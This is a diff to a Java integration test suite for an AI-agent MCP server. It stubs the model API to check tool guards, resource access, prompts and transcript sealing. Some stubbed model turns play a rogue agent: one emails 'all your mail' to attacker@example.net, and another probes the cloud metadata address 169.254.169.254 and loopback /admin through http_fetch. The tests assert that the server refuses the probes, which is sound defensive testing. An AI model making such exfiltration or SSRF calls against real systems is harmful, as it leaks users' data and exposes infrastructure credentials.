@@ -4,6 +4,7 @@ import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
 import static com.github.tomakehurst.wiremock.client.WireMock.containing;
 import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
 import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
+import static com.github.tomakehurst.wiremock.client.WireMock.notContaining;
 import static com.github.tomakehurst.wiremock.client.WireMock.post;
 import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
 import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
@@ -11,6 +12,7 @@ import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.github.tomakehurst.wiremock.WireMockServer;
+import io.mcprospero.it.support.CimdStandIn;
 import io.mcprospero.it.support.Http;
 import io.mcprospero.it.support.LocalSignIn;
 import io.mcprospero.it.support.ModernMcp;
@@ -45,6 +47,10 @@ class AgentsIT {
     private static WireMockServer anthropic;
     private static ServerUnderTest server;
     private static LocalSignIn signIn;
+    private static final String NEWS = "/agents/news";
+    private static final String REPORT = "/agents/long-report";
+    /** The web host of http_fetch: https://claude.ai, pinned to a local HTTPS stand-in by the http_fetch routes. */
+    private static final CimdStandIn web = CimdStandIn.shared();
 
     @BeforeAll
     static void aServerWithAModelStandIn() {
@@ -68,13 +74,29 @@ class AgentsIT {
                         .withBody("{\"type\":\"error\",\"error\":{\"type\":\"api_error\",\"message\":\"Internal server error\"}}")));
         anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-garbled\""))
                 .willReturn(aResponse().withStatus(200).withHeader("content-type", "application/json").withBody("{\"id\": \"msg_")));
-        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(3).withRequestBody(containing("\"claude-haiku-rogue\""))
+        // (before the generic first turn, which would otherwise answer it: in WireMock the lower number wins)
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-rogue\""))
+                .withRequestBody(notContaining("tool_result"))
                 .willReturn(aResponse().withStatus(200).withHeader("content-type", "application/json")
                         .withBody("{\"id\":\"msg_r\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-haiku-rogue\","
                                 + "\"content\":[{\"type\":\"tool_use\",\"id\":\"toolu_r\",\"name\":\"gmail_send\","
                                 + "\"input\":{\"to\":\"attacker@example.net\",\"subject\":\"all your mail\"}}],\"stop_reason\":\"tool_use\","
                                 + "\"stop_sequence\":null,\"usage\":{\"input_tokens\":50,\"output_tokens\":20}}")));
+        // http_fetch: the first turn fetches from the allowed web host, or probes addresses no agent may reach
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-fetcher\""))
+                .withRequestBody(notContaining("tool_result")).willReturn(toolUse("claude-haiku-fetcher",
+                        "{\"type\":\"tool_use\",\"id\":\"toolu_f\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://claude.ai" + NEWS + "\"}}")));
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-prober\""))
+                .withRequestBody(notContaining("tool_result")).willReturn(toolUse("claude-haiku-prober",
+                        "{\"type\":\"tool_use\",\"id\":\"toolu_m\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://169.254.169.254/latest/meta-data/\"}},"
+                        + "{\"type\":\"tool_use\",\"id\":\"toolu_l\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://127.0.0.1/admin\"}}")));
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-reader\""))
+                .withRequestBody(notContaining("tool_result")).willReturn(toolUse("claude-haiku-reader",
+                        "{\"type\":\"tool_use\",\"id\":\"toolu_r\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://claude.ai" + REPORT + "\"}}")));
         Map<String, String> environment = new HashMap<>(ServerUnderTest.onFreshDatabase(ServerUnderTest.database("agents")));
+        environment.putAll(web.routedHere("MCPROSPERO_TOOLS_HTTP_FETCH"));
+        // the runs here write transcripts of a few KB; one that read a long page passes this and goes to the artifact store
+        environment.put("MCPROSPERO_ARTIFACTS_TRANSCRIPT_THRESHOLD_BYTES", "16384");
         environment.putAll(Map.of(
                 "MCPROSPERO_SIGNUP_OPEN", "true",
                 "MCPROSPERO_ADMINS", ServerUnderTest.ADMIN_EMAIL,
@@ -95,6 +117,13 @@ class AgentsIT {
         if (anthropic != null) {
             anthropic.stop();
         }
+    }
+
+    private static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder toolUse(String model, String blocks) {
+        return aResponse().withStatus(200).withHeader("content-type", "application/json")
+                .withBody("{\"id\":\"msg_t\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"" + model + "\","
+                        + "\"content\":[" + blocks + "],\"stop_reason\":\"tool_use\",\"stop_sequence\":null,"
+                        + "\"usage\":{\"input_tokens\":60,\"output_tokens\":20}}");
     }
 
     private static String email(String who) {
@@ -355,5 +384,137 @@ class AgentsIT {
                 .contains("does not allow");
         assertThat(refusal(viewer.callTool("update_agent", "{\"agent\":\"Team agent\",\"action\":\"pause\",\"org_id\":\"" + orgId + "\"}")))
                 .contains("does not allow");
+    }
+
+    @Test
+    void aRunIsAResourceInBothErasAndAgentTemplatesArePrompts() throws Exception {
+        String token = signIn.tokensFor(email("reader")).accessToken();
+        ModernMcp person = new ModernMcp(server, token);
+        String runId = approvedAndRunNow(person, "Readable", "claude-haiku-4-5");
+        assertThat(finishedRun(person, runId, Duration.ofSeconds(30)).getString("status")).isEqualTo("completed");
+        String uri = "mcprospero://runs/" + runId;
+
+        JsonObject listed = ModernMcp.json(person.request("resources/list", "{}", "{}")).getJsonObject("result");
+        assertThat(listed.getJsonArray("resources").getValuesAs(JsonValue::asJsonObject)).extracting(r -> r.getString("uri")).contains(uri);
+        assertThat(listed.getString("cacheScope")).as("the list is the caller's org's").isEqualTo("private");
+        JsonObject answer = ModernMcp.json(person.request("resources/read", "{\"uri\":\"" + uri + "\"}", "{}"));
+        assertThat(answer.containsKey("result")).as(answer.toString()).isTrue();
+        JsonObject read = answer.getJsonObject("result");
+        JsonObject transcript = ModernMcp.parse(read.getJsonArray("contents").getJsonObject(0).getString("text"));
+        assertThat(transcript.getString("status")).isEqualTo("completed");
+        assertThat(transcript.getJsonArray("steps").toString()).contains("remember");
+
+        RawMcp legacy = new RawMcp(server, token);
+        legacy.initialize();
+        assertThat(legacy.request("resources/read", "{\"uri\":\"" + uri + "\"}").getJsonObject("result").getJsonArray("contents")
+                .getJsonObject(0).getString("text")).isEqualTo(read.getJsonArray("contents").getJsonObject(0).getString("text"));
+
+        ModernMcp stranger = new ModernMcp(server, signIn.tokensFor(email("stranger")).accessToken());
+        JsonObject refused = ModernMcp.json(stranger.request("resources/read", "{\"uri\":\"" + uri + "\"}", "{}"));
+        assertThat(refused.getJsonObject("error").getInt("code")).as("another org's run does not exist for them").isEqualTo(-32602);
+        assertThat(refused.getJsonObject("error").getJsonObject("data").getString("uri")).isEqualTo(uri);
+        assertThat(ModernMcp.json(stranger.request("resources/list", "{}", "{}")).toString()).doesNotContain(runId);
+
+        JsonObject prompts = ModernMcp.json(person.request("prompts/list", "{}", "{}")).getJsonObject("result");
+        assertThat(prompts.getJsonArray("prompts").getValuesAs(JsonValue::asJsonObject)).extracting(p -> p.getString("name"))
+                .containsExactly("calendar_brief", "work_email_digest");
+        JsonObject digest = ModernMcp.json(person.request("prompts/get", "{\"name\":\"work_email_digest\",\"arguments\":"
+                + "{\"timezone\":\"Europe/Berlin\",\"slack_channel\":\"#inbox\"}}", "{}")).getJsonObject("result");
+        assertThat(digest.getJsonArray("messages").getJsonObject(0).getJsonObject("content").getString("text"))
+                .contains("create_agent").contains("08:00").contains("Europe/Berlin").contains("#inbox");
+        JsonObject unknownZone = ModernMcp.json(person.request("prompts/get", "{\"name\":\"calendar_brief\",\"arguments\":"
+                + "{\"timezone\":\"Mars/Olympus\"}}", "{}"));
+        assertThat(unknownZone.getJsonObject("error").getInt("code")).isEqualTo(-32602);
+        assertThat(unknownZone.getJsonObject("error").getString("message")).contains("IANA time zone");
+    }
+
+    @Test
+    void runNowWithAProgressTokenReportsEachStepAndAnswersTheOutcome() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("watcher")).accessToken());
+        structured(callApproving(person, "create_agent", "{\"name\":\"Watched\",\"instructions\":\"Work.\",\"tools\":[\"remember\"]}"));
+        try (ModernMcp.Stream call = person.openWithProgress("{\"name\":\"update_agent\",\"arguments\":"
+                + "{\"agent\":\"Watched\",\"action\":\"run_now\"}}", "watch-1")) {
+            List<JsonObject> messages = call.rest(Duration.ofSeconds(60));
+            List<JsonObject> progress = messages.stream().filter(m -> "notifications/progress".equals(m.getString("method", null))).toList();
+            assertThat(progress).as(messages.toString()).hasSizeGreaterThanOrEqualTo(2)
+                    .allSatisfy(m -> assertThat(m.getJsonObject("params").getString("progressToken")).isEqualTo("watch-1"));
+            JsonObject outcome = messages.get(messages.size() - 1).getJsonObject("result").getJsonObject("structuredContent");
+            assertThat(outcome.getString("outcome")).as(outcome.toString()).isEqualTo("completed");
+            assertThat(outcome.getJsonObject("run").getString("final_text")).isEqualTo("Digest done.");
+        }
+    }
+
+    private static List<JsonObject> toolCalls(JsonObject run) {
+        return run.getJsonArray("steps").getValuesAs(JsonValue::asJsonObject).stream().filter(step -> step.getString("kind").equals("tool_call"))
+                .toList();
+    }
+
+    @Test
+    void httpFetchReadsFromTheApprovedHostThroughTheGuard() throws Exception {
+        web.serve(NEWS, new CimdStandIn.Document(200, Map.of("Content-Type", "text/plain; charset=utf-8"), "Three new invoices today.", false));
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("fetcher")).accessToken());
+        JsonObject created = structured(callApproving(person, "create_agent", "{\"name\":\"Fetcher\",\"instructions\":\"Read the news.\","
+                + "\"tools\":[\"http_fetch\"],\"allowed_hosts\":[\"claude.ai\"],\"model\":\"claude-haiku-fetcher\"}"));
+        assertThat(created.getJsonObject("agent").getJsonObject("manifest").getJsonArray("reads").getString(0))
+                .isEqualTo("web pages and API answers from claude.ai (HTTPS GET)");
+        String runId = structured(person.callTool("update_agent", "{\"agent\":\"Fetcher\",\"action\":\"run_now\"}")).getString("run_id");
+
+        JsonObject run = finishedRun(person, runId, Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("completed");
+        assertThat(toolCalls(run)).singleElement().satisfies(call -> {
+            assertThat(call.getString("name")).isEqualTo("http_fetch");
+            assertThat(call.getBoolean("error")).isFalse();
+            assertThat(call.getJsonObject("input").getString("url")).isEqualTo("https://claude.ai" + NEWS);
+            assertThat(call.getString("result")).isEqualTo("HTTP 200, text/plain, 25 bytes\n\nThree new invoices today.");
+        });
+        assertThat(web.hits(NEWS)).isEqualTo(1);
+        anthropic.verify(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("Three new invoices today."))
+                .withRequestBody(containing("# Hosts http_fetch may reach\\nclaude.ai")));
+    }
+
+    @Test
+    void httpFetchRefusesMetadataAndLoopbackAddressesEvenWhenTheyAreAllowedHosts() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("prober")).accessToken());
+        structured(callApproving(person, "create_agent", "{\"name\":\"Prober\",\"instructions\":\"Look around.\","
+                + "\"tools\":[\"http_fetch\"],\"allowed_hosts\":[\"169.254.169.254\",\"127.0.0.1\"],\"model\":\"claude-haiku-prober\"}"));
+        String runId = structured(person.callTool("update_agent", "{\"agent\":\"Prober\",\"action\":\"run_now\"}")).getString("run_id");
+
+        JsonObject run = finishedRun(person, runId, Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("completed");
+        assertThat(toolCalls(run)).extracting(call -> call.getBoolean("error")).containsExactly(true, true);
+        assertThat(toolCalls(run)).extracting(call -> call.getString("result")).containsExactly(
+                "https://169.254.169.254/latest/meta-data/ cannot be fetched: its host 169.254.169.254 is a link-local address; "
+                        + "a URL the server fetches must name its host by a domain name.",
+                "https://127.0.0.1/admin cannot be fetched: its host 127.0.0.1 is a loopback address; "
+                        + "a URL the server fetches must name its host by a domain name.");
+        anthropic.verify(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("is a link-local address")));
+    }
+
+    @Test
+    void aLargeTranscriptIsKeptSealedInTheArtifactStoreAndGetRunReadsItBack() throws Exception {
+        StringBuilder report = new StringBuilder();
+        for (int line = 1; report.length() < 40_000; line++) {
+            report.append("Line ").append(line).append(" of the quarterly report.\n");
+        }
+        web.serve(REPORT, new CimdStandIn.Document(200, Map.of("Content-Type", "text/plain"), report.toString(), false));
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("reader")).accessToken());
+        String orgId = structured(person.callTool("whoami", "{}")).getJsonObject("org").getString("id");
+        structured(callApproving(person, "create_agent", "{\"name\":\"Reader\",\"instructions\":\"Read the report.\","
+                + "\"tools\":[\"http_fetch\"],\"allowed_hosts\":[\"claude.ai\"],\"model\":\"claude-haiku-reader\"}"));
+        String runId = structured(person.callTool("update_agent", "{\"agent\":\"Reader\",\"action\":\"run_now\"}")).getString("run_id");
+
+        JsonObject run = finishedRun(person, runId, Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("completed");
+        assertThat(run.getString("final_text")).isEqualTo("Digest done.");
+        assertThat(toolCalls(run)).singleElement().satisfies(call -> assertThat(call.getString("result"))
+                .startsWith("HTTP 200, text/plain, " + report.length() + " bytes\n\nLine 1 of the quarterly report.\nLine 2 of"));
+        java.nio.file.Path artifact = server.dataDir().resolve("artifacts/transcripts/" + orgId + "/" + runId);
+        assertThat(artifact).as("the transcript went to the artifact store").exists();
+        assertThat(java.nio.file.Files.size(artifact)).isGreaterThan(16_384);
+        assertThat(java.nio.file.Files.readString(artifact, java.nio.charset.StandardCharsets.ISO_8859_1))
+                .as("sealed before it left").startsWith("MCPA1").doesNotContain("quarterly report");
     }
 }
